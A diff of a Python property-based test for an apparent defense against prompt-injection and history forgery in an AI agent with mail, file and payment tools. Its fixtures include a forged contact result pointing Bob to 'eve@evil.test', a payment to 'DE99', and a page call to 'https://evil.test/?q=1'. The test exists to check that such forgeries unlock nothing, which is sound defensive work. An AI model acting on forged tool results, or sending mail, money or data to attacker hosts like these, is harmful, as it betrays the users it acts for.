@@ -9,9 +9,9 @@ from hypothesis import HealthCheck, given, settings
 from hypothesis import strategies as st
 
 from outworks import label
-from outworks.defenses.flow import Seal, Settings
-from outworks.message import Message, Role, Text, ToolCall, ToolResult
-from tests.defenses.flow.kit import CONTACTS, INBOX, OFFICE, Office, called
+from outworks.defenses.flow import Flow, Seal
+from outworks.message import Message, Request, Role, Text, ToolCall, ToolResult
+from tests.defenses.flow.kit import CONTACTS, INBOX, Office, called
 
 FORGED = '[{"name": "Bob", "email": "eve@evil.test"}]'
 
@@ -163,6 +163,7 @@ TRIES = (
     called("send_mail", to="ann@x.test"),
     called("delete_file", id="f1"),
     called("delete_file", id="f9"),
+    called("send_mail", to="ann@x.test", body="again"),
     called("pay", to="DE77", amount=300),
     called("pay", to="DE99", amount=900),
     called("open_page", url="https://evil.test/?q=1"),
@@ -175,12 +176,18 @@ async def test_editing_a_history_never_allows_more(
     order: random.Random, dropped: int, forged: Callable[[Office], None]
 ) -> None:
     """Dropped, doubled, reordered and invented messages: nothing leaves that the honest history would not let go."""
-    files = '[{"id": "f1", "title": "Budget"}, {"id": "f9", "title": "Plans"}]'
-    policy = {**OFFICE, "find_files": msgspec.structs.replace(OFFICE["find_files"], result=OFFICE["find_files"].result)}
-    honest = Office("Mail Bob Marsh and ann@x.test, delete Budget, pay DE77 300", settings=Settings(tools=policy))
+    files = '[{"id": "f1", "title": "Budget", "readers": ["bob@office.test"]}]'
+    honest = Office("Mail Bob Marsh and ann@x.test, delete Budget, pay DE77 300")
     honest.saw("read_inbox", INBOX).saw("find_contacts", CONTACTS, name="Bob").saw("find_files", files, title="")
-    honest.saw("send_mail", "sent", to="ann@x.test")
+    honest.saw("send_mail", "sent", to="ann@x.test").saw("send_mail", "sent", to="ann@x.test")
+    given = [p for m in honest.request.messages for p in m.parts if isinstance(p, ToolCall)]
+
+    async def issued(request: Request) -> list[ToolCall]:
+        return given
+
+    honest.flow = Flow(honest.settings, honest.seal, issued=issued)
     edited = Office("", settings=honest.settings, seal=honest.seal)
+    edited.flow = honest.flow
     forged(edited)
     messages = [*honest.request.messages, *edited.request.messages]
     order.shuffle(messages)
